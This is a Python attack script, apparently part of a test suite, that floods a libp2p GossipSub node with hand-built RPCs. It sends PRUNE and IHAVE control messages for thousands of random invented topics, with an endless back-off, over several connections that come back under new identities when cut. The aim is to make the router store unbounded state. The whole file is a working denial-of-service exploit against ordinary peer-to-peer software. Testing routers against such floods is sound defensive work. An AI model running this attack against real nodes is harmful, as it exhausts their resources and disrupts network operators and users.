"""GossipSub control messages about topics of the attacker's invention: a stock router keeps them all.

Full RPCs of PRUNE and IHAVE with new topic names, as fast as the node reads them, from few connections.
"""

import secrets
from functools import partial

import trio
from libp2p.pubsub.gossipsub import PROTOCOL_ID_V11
from libp2p.utils.varint import encode_uvarint, encode_varint_prefixed

from p2p.switch.switch import Switch
from tests.attacks.target import Target, keep_coming

SECONDS = 25.0
CONNECTIONS = 4
TOPICS = 1500
TOPIC_CHARACTERS = 32
PRUNE_TOPIC, PRUNE_BACKOFF = b"\x22\x2c\x0a\x20", b"\x18" + b"\xff" * 8 + b"\x3f"
IHAVE_TOPIC, IHAVE_ID = b"\x0a\x44\x0a\x20", b"\x12\x20"


def build_rpc() -> bytes:
    """One RPC, nearly as large as a node reads: PRUNE with a back-off that never ends, and IHAVE.

    Written by hand, since protobuf's Python classes are slower than the node that reads them.
    """
    names = secrets.token_hex(TOPIC_CHARACTERS // 2 * TOPICS).encode()
    parts = []
    for start in range(0, len(names), TOPIC_CHARACTERS):
        topic = names[start : start + TOPIC_CHARACTERS]
        parts += [PRUNE_TOPIC + topic + PRUNE_BACKOFF, IHAVE_TOPIC + topic + IHAVE_ID + topic]
    control = b"".join(parts)
    return encode_varint_prefixed(b"\x1a" + encode_uvarint(len(control)) + control)


async def attack(target: Target) -> None:
    """All connections at once; a cut one comes back under a new identity."""
    async with trio.open_nursery() as nursery:
        for number in range(CONNECTIONS):
            nursery.start_soon(keep_coming, target, target.get_host(number), partial(_send, target))


async def _send(target: Target, peer: Switch) -> None:
    stream = await peer.open_bytes(target.place.peer, PROTOCOL_ID_V11)
    while True:
        await stream.write(build_rpc())
